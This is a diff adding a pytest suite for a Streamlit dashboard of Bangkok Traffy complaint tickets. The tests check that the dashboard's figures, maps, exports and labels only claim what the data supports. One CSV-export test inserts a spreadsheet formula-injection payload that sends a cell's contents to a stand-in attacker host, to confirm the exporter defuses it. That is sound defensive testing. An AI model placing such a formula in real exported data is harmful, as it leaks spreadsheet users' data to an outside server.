@@ -1,0 +1,439 @@
+"""Figures say what the data supports: one test per defect of the honest-figures issue.
+
+Two hand-built stores: one whose finished tickets have finish times (the dump format) and
+one whose tickets have none (like the real 2022 API file).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import tomllib
+from collections.abc import Iterator
+from pathlib import Path
+
+import duckdb
+import pandas as pd
+import pytest
+import streamlit as st
+from streamlit.testing.v1 import AppTest
+
+from dashboard import assets, exports, hotspots, launcher, maps, metrics
+from dashboard.coverage import coverage
+from dashboard.ingest import ingest_files
+from tests.fixtures import ticket, write_csv
+
+ROOT = Path(__file__).resolve().parents[1]
+APP = str(ROOT / "dashboard" / "app.py")
+AS_OF = pd.Timestamp("2022-07-01 00:00:00+00").to_pydatetime()
+
+
+def plain(markdown: str) -> str:
+    return re.sub(r"\\(.)", r"\1", markdown)
+
+
+def _rows(*, finish_times: bool) -> list[dict[str, str]]:
+    done = "2022-06-03 03:00:00+00" if finish_times else ""
+    return [
+        ticket("O1", code="1006", timestamp="2022-05-01 03:00:00+00", last_activity=""),
+        ticket("O2", code="1006", timestamp="2022-05-20 03:00:00+00", last_activity=""),
+        ticket("O3", code="1006", half=1, timestamp="2022-06-25 03:00:00+00", last_activity=""),
+        ticket("F1", code="1006", state="เสร็จสิ้น", last_activity=done, star="1"),
+        ticket("F2", code="1006", half=1, state="เสร็จสิ้น", last_activity=done, count_reopen=""),
+        ticket("F3", code="1006", state="เสร็จสิ้น", timestamp="2022-06-28 03:00:00+00",
+               last_activity="2022-06-29 03:00:00+00" if finish_times else "",
+               photo_after="https://example.invalid/after.jpg"),
+        ticket("C1", code="1030", timestamp="2022-06-10 03:00:00+00", last_activity=""),
+    ]  # fmt: skip
+
+
+def _store(tmp_path: Path, data_dir: Path, *, finish_times: bool) -> Path:
+    path = tmp_path / f"store_{finish_times}.duckdb"
+    rows = _rows(finish_times=finish_times)
+    ingest_files(paths=[write_csv(tmp_path / "t.csv", rows)], store_path=path, data_dir=data_dir)
+    return path
+
+
+@pytest.fixture
+def no_finish(tmp_path: Path, data_dir: Path) -> Path:
+    return _store(tmp_path, data_dir, finish_times=False)
+
+
+@pytest.fixture
+def with_finish(tmp_path: Path, data_dir: Path) -> Path:
+    return _store(tmp_path, data_dir, finish_times=True)
+
+
+@pytest.fixture
+def app_on(monkeypatch: pytest.MonkeyPatch) -> Iterator[object]:
+    def use(store: Path, page: str | None = None, **params: str) -> AppTest:
+        monkeypatch.setenv("KHETMAP_STORE", str(store))
+        monkeypatch.setenv("KHETMAP_TILES", "none")
+        st.cache_data.clear()
+        st.cache_resource.clear()
+        at = AppTest.from_file(APP, default_timeout=60)
+        for name, value in params.items():
+            at.query_params[name] = value
+        if page:
+            at.switch_page(f"views/{page}.py")
+        return at.run()
+
+    yield use
+    st.cache_data.clear()
+    st.cache_resource.clear()
+
+
+def chart_series(at: AppTest, index: int = 0) -> set[str]:
+    """The series names a chart draws (from its Arrow dataset)."""
+    import pyarrow as pa
+
+    data = at.get("vega_lite_chart")[index].proto.datasets[0].data.data
+    table = pa.ipc.open_stream(data).read_all()
+    return set(table.column("series").to_pylist())
+
+
+def texts(at: AppTest) -> list[str]:
+    found = [
+        plain(str(e.value))
+        for kind in ("caption", "info", "warning", "error")
+        for e in at.get(kind)
+    ]
+    return found + [f"{m.label}={m.value}" for m in at.metric]
+
+
+# --- what the data can support -----------------------------------------------------------
+
+
+def test_coverage_counts_what_the_tickets_carry(no_finish: Path, with_finish: Path) -> None:
+    with duckdb.connect(str(no_finish), read_only=True) as con:
+        none = coverage(con)
+    with duckdb.connect(str(with_finish), read_only=True) as con:
+        some = coverage(con)
+    assert (none.tickets, none.finished, none.finish_time, none.star, none.after_photo) == (
+        7,
+        3,
+        0,
+        1,
+        1,
+    )
+    assert (some.finish_time, some.share("finish_time")) == (3, 1.0)
+    assert none.reopen_count == 6  # F2 has an empty count_reopen
+    assert not none.supports("finish_time") and some.supports("finish_time")
+    assert none.note("finish_time", "en") == (
+        "Not available in this data: no finished ticket has a finish time (last_activity); "
+        "Traffy's public API does not return it"
+    )
+    assert none.note("star", "en") == "Based on the 1 of 7 tickets (14%) that citizens rated"
+    assert some.note("finish_time", "en") == ""  # every finished ticket has one
+
+
+def test_without_finish_times_the_weekly_chart_draws_no_finished_line_and_says_why(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
+    assert not at.exception and not at.error
+    assert chart_series(at) == {"Opened"}  # no flat zero line
+    assert at.subheader[0].value == "Weekly: opened"
+    shown = texts(at)
+    assert (
+        "Finished: Not available in this data: no finished ticket has a finish time "
+        "(last_activity); Traffy's public API does not return it" in shown
+    )
+    assert "Median days to finish=Not in this data" in shown
+    # the note stays with state=open too, in its own words
+    at = app_on(no_finish, "district", district="1006", lang="en", state="open")  # type: ignore[operator]
+    assert "With only open tickets selected there is no finished line to draw" in texts(at)
+
+
+def test_with_finish_times_the_finished_line_is_drawn(with_finish: Path, app_on: object) -> None:
+    at = app_on(with_finish, "district", district="1006", lang="en")  # type: ignore[operator]
+    assert at.subheader[0].value == "Weekly: opened vs finished"
+    assert "Median days to finish=2.0" in texts(at)  # 2, 2 and 1 days
+    assert chart_series(at) == {"Opened", "Finished"}
+
+
+def test_median_days_map_metric_says_why_it_is_grey(no_finish: Path, app_on: object) -> None:
+    at = app_on(no_finish, None, lang="en", metric="median_days_to_finish")  # type: ignore[operator]
+    assert (
+        "Median days to finish: Not available in this data: no finished ticket has a "
+        "finish time (last_activity); Traffy's public API does not return it" in texts(at)
+    )
+    ranking = at.dataframe[0].value
+    assert "median_days_to_finish" not in ranking.columns  # no column of blanks
+    assert list(ranking["open"][:2]) == [3, 1]  # ranked by open instead
+
+
+def test_the_closure_audit_leaves_out_what_it_cannot_judge(no_finish: Path, app_on: object) -> None:
+    at = app_on(no_finish, "review", lang="en", min_n="1", since="2022-05-01", until="2022-06-30")  # type: ignore[operator]
+    assert not at.exception and not at.error
+    audit = at.dataframe[2].value
+    assert (
+        "Closed implausibly fast" not in audit.columns
+        and "closed implausibly fast" not in audit.columns
+    )
+    assert (
+        "closed implausibly fast: Not available in this data: no finished ticket has a "
+        "finish time (last_activity); Traffy's public API does not return it" in texts(at)
+    )
+    flagged = at.dataframe[3].value
+    assert "hours_to_finish" not in flagged.columns
+    league = at.dataframe[1].value
+    assert "Median days to finish" not in league.columns
+    assert (
+        "Median days to finish: Not available in this data: no finished ticket has a "
+        "finish time (last_activity); Traffy's public API does not return it" in texts(at)
+    )
+
+
+def test_the_about_page_lists_coverage(no_finish: Path, app_on: object) -> None:
+    at = app_on(no_finish, "about", lang="en")  # type: ignore[operator]
+    table = at.dataframe[1].value
+    finish = table[table["Field"] == "Finish time (of finished tickets)"].iloc[0]
+    assert (finish["Tickets that have it"], finish["Of"], finish["Share"]) == ("0", "3", "0.0%")
+    assert any("median days to finish, weekly finished line" in w for w in texts(at))
+
+
+# --- defect 1: GeoJSON download with empty finish times ----------------------------------
+
+
+def test_geojson_download_works_when_no_ticket_has_a_finish_time(no_finish: Path) -> None:
+    with duckdb.connect(str(no_finish), read_only=True) as con:
+        frame, _ = metrics.tickets_page(con, filters=metrics.Filters(), as_of=AS_OF)
+    assert frame["last_activity"].isna().all()
+    table = exports.export_frame(
+        frame, names={"1006": "Bang Kapi"}, lang="en", with_finish_times=True
+    )
+    document = json.loads(exports.tickets_geojson(table, notes=["x"]))
+    assert len(document["features"]) == 7
+    assert {f["properties"]["last_activity_bangkok"] for f in document["features"]} == {None}
+    assert document["khetmap_notes"] == ["x"]
+
+
+# --- defect 2: streamlit run from the repo root, missing assets ---------------------------
+
+
+def test_streamlit_run_from_the_repo_root_gets_the_settings_khetmap_run_passes() -> None:
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    flags = launcher.streamlit_command(port=1, address="x")
+    for section, values in config.items():
+        for key, value in values.items():
+            expected = str(value).lower() if isinstance(value, bool) else str(value)
+            assert flags[flags.index(f"--{section}.{key}") + 1] == expected
+    assert config["server"]["enableStaticServing"] is True
+    assert config["client"]["showErrorDetails"] == "none"
+
+
+def test_a_map_without_its_libraries_says_so_instead_of_a_blank_frame(
+    with_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setattr(assets, "VENDOR_DIR", tmp_path / "no-vendor")
+    at = app_on(with_finish, None, lang="en")  # type: ignore[operator]
+    errors = [plain(e.value) for e in at.error]
+    assert len(errors) == 1
+    assert errors[0].startswith("The map cannot be drawn: the app's map libraries are missing")
+    assert "run scripts/setup.sh and reload" in errors[0]
+
+
+# --- defect 3: which points the capped district map draws --------------------------------
+
+
+def test_the_capped_point_map_draws_the_oldest_open_first_and_says_so(
+    no_finish: Path, app_on: object
+) -> None:
+    with duckdb.connect(str(no_finish), read_only=True) as con:
+        oldest, total = metrics.map_points(
+            con, filters=metrics.Filters(district="1006"), as_of=AS_OF, cap=4
+        )
+        newest, _ = metrics.map_points(
+            con, filters=metrics.Filters(district="1006"), as_of=AS_OF, cap=2, order="newest"
+        )
+    assert total == 6
+    assert list(oldest["ticket_id"]) == ["O1", "O2", "O3", "F3"]  # open oldest first, then newest
+    assert list(newest["ticket_id"]) == ["F3", "O3"]
+
+
+def test_the_point_caption_names_the_rule_and_the_dates(
+    no_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("KHETMAP_POINT_CAP", "2")
+    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
+    assert any(
+        c.startswith(
+            "Showing 2 of 6 points: the oldest open tickets first, then the newest "
+            "(reported 1 May 2022 to 20 May 2022)"
+        )
+        for c in texts(at)
+    ), texts(at)
+    assert at.radio(key="w_points").value == "oldest"
+
+
+# --- defect 4: KPIs that follow the view --------------------------------------------------
+
+
+def test_a_subdistrict_view_has_no_district_per_10k_figure(no_finish: Path, app_on: object) -> None:
+    at = app_on(no_finish, "district", subdistrict="100601", lang="en")  # type: ignore[operator]
+    labels = [m.label for m in at.metric]
+    assert "Open per 10k residents" not in labels
+    assert (
+        "Open per 10k residents: not applicable to a subdistrict (population is known "
+        "per district only)" in texts(at)
+    )
+    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
+    assert "Open per 10k residents" in [m.label for m in at.metric]
+
+
+def test_a_state_filter_hides_figures_that_would_only_repeat_it(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, None, lang="en", state="open")  # type: ignore[operator]
+    labels = [m.label for m in at.metric]
+    assert "Open" in labels and "Total" not in labels and "Finished share" not in labels
+
+
+# --- defect 5: hotspot area labels --------------------------------------------------------
+
+
+def test_an_area_label_says_how_many_districts_it_spans_and_labels_never_repeat() -> None:
+    areas = pd.DataFrame(
+        {
+            "rank": [1, 2, 3, 4],
+            "district_counts": [
+                [("1033", 300), ("1039", 200), ("1007", 100), ("1001", 5)],
+                [("1006", 50)],
+                [("1006", 40)],
+                [("1006", 30)],
+            ],
+            "subdistrict_counts": [
+                [("103301", 1)],
+                [("100602", 50)],
+                [("100602", 40)],
+                [("100601", 30)],
+            ],
+        }
+    )
+    names = {"1033": "Khlong Toei", "1039": "Watthana", "1007": "Pathum Wan", "1001": "Phra Nakhon",
+             "1006": "Bang Kapi", "100602": "Hua Mak", "100601": "Khlong Chan", "103301": "Khlong Toei"}  # fmt: skip
+    labels = hotspots.area_labels(areas, names=names, lang="en")
+    assert labels == [
+        "4 districts, mostly Khlong Toei, Watthana, Pathum Wan",
+        "Bang Kapi / Hua Mak",
+        "Bang Kapi / Hua Mak · #3",
+        "Bang Kapi / Khlong Chan",
+    ]
+    assert len(set(labels)) == len(labels)
+
+
+# --- defect 6: reading guide --------------------------------------------------------------
+
+
+def test_the_review_page_and_its_brief_say_how_to_read_them(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, "review", lang="en", min_n="1")  # type: ignore[operator]
+    guide = plain(at.info[0].value)
+    assert "Rank 1 is the worst" in guide
+    assert "“Open” is a ticket's state today" in guide
+    brief = at.get("download_button")[0].proto.label
+    assert brief == "Download the meeting brief (HTML)"
+
+
+# --- defect 7: the flagged-tickets table --------------------------------------------------
+
+
+def test_the_flagged_table_speaks_the_page_language_with_names_and_photo_links(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, "review", lang="th", min_n="1", since="2022-05-01", until="2022-06-30")  # type: ignore[operator]
+    flagged = at.dataframe[3]
+    config = json.loads(flagged.proto.columns)
+    labels = {name: c.get("label") for name, c in config.items()}
+    assert labels["flags"] == "ข้อสังเกต" and labels["district"] == "เขต"
+    assert labels["photo_link"] == "ภาพก่อน"
+    rows = flagged.value
+    assert set(rows["district"]) == {"เขต1006"}  # names, not codes
+    assert "1–2 ดาว" in " ".join(rows["flags"])
+    assert "low_star" not in " ".join(rows["flags"])
+    assert all(link.startswith("https://") for link in rows["photo_link"])
+
+
+# --- defect 9: the smaller ones -----------------------------------------------------------
+
+
+def test_the_city_ranking_shows_each_figure_once(no_finish: Path, app_on: object) -> None:
+    at = app_on(no_finish, None, lang="en", metric="open")  # type: ignore[operator]
+    ranking = at.dataframe[0].value
+    assert list(ranking.columns) == [
+        "#",
+        "district",
+        "open",
+        "total",
+        "open_per_10k",
+        "open_over_30",
+    ]
+
+
+def test_the_heat_layer_has_its_own_legend_and_the_districts_become_outlines() -> None:
+    square = {"type": "Polygon", "coordinates": [[[100, 13], [101, 13], [101, 14], [100, 13]]]}
+    feature = {"type": "Feature", "geometry": square,
+               "properties": {"code": "1001", "tooltip": "x", "fill": "#fff"}}  # fmt: skip
+    collection = {"type": "FeatureCollection", "features": [feature]}
+    cells = pd.DataFrame({"lat": [13.7], "lon": [100.5], "open": [3]})
+    html = maps.city_map(collection=collection, bins=maps.Bins(edges=(1.0,)), legend_title="x",
+                         metric="open", heat_cells=cells, view=None, lang="en").get_root().render()  # fmt: skip
+    assert "Density of open complaints" in html and "linear-gradient" in html
+    assert "With the density layer on, districts are drawn as outlines" in html
+    assert '"fillOpacity": 0.0' in html
+
+
+def test_the_district_page_without_a_district_says_what_to_do(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, "district", lang="en")  # type: ignore[operator]
+    assert plain(at.info[0].value).startswith("No district chosen: pick one from the list above")
+    assert "click a district on the map" not in " ".join(texts(at)).lower().replace(
+        "city overview map", ""
+    )
+
+
+def test_the_ticket_search_looks_in_comments_unless_asked(no_finish: Path) -> None:
+    with duckdb.connect(str(no_finish), read_only=True) as con:
+        con.execute("SET TimeZone='UTC'")
+        args = {"filters": metrics.Filters(), "as_of": AS_OF}
+        _, in_comments = metrics.tickets_page(con, q="1006", **args)  # type: ignore[arg-type]
+        _, everywhere = metrics.tickets_page(con, q="O1", scope="all", **args)  # type: ignore[arg-type]
+    assert (in_comments, everywhere) == (0, 1)
+
+
+def test_csv_has_bangkok_times_names_links_and_no_formula(no_finish: Path) -> None:
+    with duckdb.connect(str(no_finish), read_only=True) as con:
+        frame, _ = metrics.tickets_page(con, filters=metrics.Filters(), as_of=AS_OF, sort="oldest")
+    frame.loc[0, "comment"] = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    table = exports.export_frame(
+        frame,
+        names={"1006": "Bang Kapi", "100601": "Khlong Chan"},
+        lang="en",
+        with_finish_times=False,
+    )
+    rows = list(csv.DictReader(io.StringIO(exports.tickets_csv(table).decode("utf-8-sig"))))
+    first = rows[0]
+    assert first["reported_at_bangkok"] == "2022-05-01 10:00"  # 03:00 UTC, to the minute
+    assert (first["district_name"], first["subdistrict_name"]) == ("Bang Kapi", "Khlong Chan")
+    assert first["public_page"] == "https://share.traffy.in.th/teamchadchart/O1"
+    assert first["comment"].startswith("'=HYPERLINK(")
+    assert "last_activity_bangkok" not in first
+
+
+def test_the_oldest_open_table_has_a_download_of_every_open_ticket(
+    no_finish: Path, app_on: object
+) -> None:
+    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
+    labels = [b.proto.label for b in at.get("download_button")]
+    assert labels == ["Download every open ticket of this view (CSV, oldest first)"]
+    assert "The 3 longest-open of 3 open tickets" in texts(at)
+
+
+def test_no_page_uses_emoji_glyphs_that_need_an_emoji_font() -> None:
+    sources = "".join(p.read_text(encoding="utf-8") for p in (ROOT / "dashboard").rglob("*.py"))
+    assert "📷" not in sources and "🆕" not in sources and "⬆️" not in sources
